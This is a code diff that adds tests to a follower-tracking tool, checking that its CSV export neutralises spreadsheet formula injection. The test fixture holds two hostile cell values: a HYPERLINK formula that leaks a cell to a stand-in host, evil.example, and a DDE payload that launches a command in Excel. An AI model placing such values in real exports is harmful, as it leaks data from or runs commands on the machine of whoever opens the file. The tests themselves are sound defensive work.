@@ -99,3 +99,51 @@ def test_changes_lists_who_came_and_left_with_profiles(sample_store, tmp_path):
         assert bad.exit_code == 1 and "need an earlier snapshot first" in bad.output
     records = json.loads(run("changes", "brightwave", "--json", *where).output)
     assert len(records) == len(diff) and {r["change"] for r in records} == {"new", "lost"}
+
+
+HOSTILE_CELLS = {"name": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
+                 "description": "@SUM(1+1)*cmd|' /C calc'!A0", "location": "+1 555 0100"}
+
+
+def _archive_with_a_hostile_newcomer(tmp_path):
+    """The real archive's first two exports, the second one's followers given profiles, one of
+    them written by someone who knows spreadsheets."""
+    import pandas as pd
+
+    from conftest import shared_path
+    from follower_kit import Store
+    from follower_kit.sources import archive
+
+    store = Store(tmp_path / "store")
+    for path in archive.archives_in(shared_path("x-archive", "larsbrinkhoff"))[:2]:
+        archive.import_archive(store, path)
+    diff = store.diff("larsbrinkhoff")
+    ids = list(store.followers("larsbrinkhoff")["id"])
+    profiles = pd.DataFrame({"id": ids, "username": [f"u{i}" for i in ids], "name": "Someone",
+                             "description": "plain bio", "location": "Earth"})
+    hostile = diff.loc[diff["change"] == "new", "id"].iloc[0]
+    for column, value in HOSTILE_CELLS.items():
+        profiles.loc[profiles["id"] == hostile, column] = value
+    store.add_profiles("larsbrinkhoff", profiles)
+    return store, hostile
+
+
+def _cells(path):
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_changes_csv_cannot_run_as_a_spreadsheet_formula(tmp_path):
+    """A follower named =HYPERLINK(...) must open in Excel as text, as in the report's CSV."""
+    store, hostile = _archive_with_a_hostile_newcomer(tmp_path)
+    csv_path = tmp_path / "changes.csv"
+    out = run("changes", "larsbrinkhoff", "--csv", str(csv_path), "--store", str(store.path))
+    assert out.exit_code == 0, out.output
+    rows = _cells(csv_path)
+    row = next(r for r in rows if r["id"] == hostile)
+    for column, value in HOSTILE_CELLS.items():
+        assert column not in row or row[column] == "'" + value
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@"]
+
